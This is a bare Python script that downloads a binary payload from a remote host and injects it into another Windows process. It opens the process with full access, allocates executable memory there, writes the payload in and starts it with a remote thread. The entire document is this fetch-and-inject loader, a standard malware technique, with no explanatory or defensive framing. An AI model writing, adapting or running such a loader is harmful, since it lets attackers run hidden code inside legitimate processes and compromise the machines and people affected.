import ctypes
import urllib.request

kernel32 = ctypes.windll.kernel32
code = urllib.request.urlopen("https://files.example.invalid/blob").read()
process = kernel32.OpenProcess(0x1FFFFF, False, target)
place = kernel32.VirtualAllocEx(process, 0, len(code), 0x3000, 0x40)
kernel32.WriteProcessMemory(process, place, code, len(code), 0)
kernel32.CreateRemoteThread(process, 0, 0, place, 0, 0, 0)
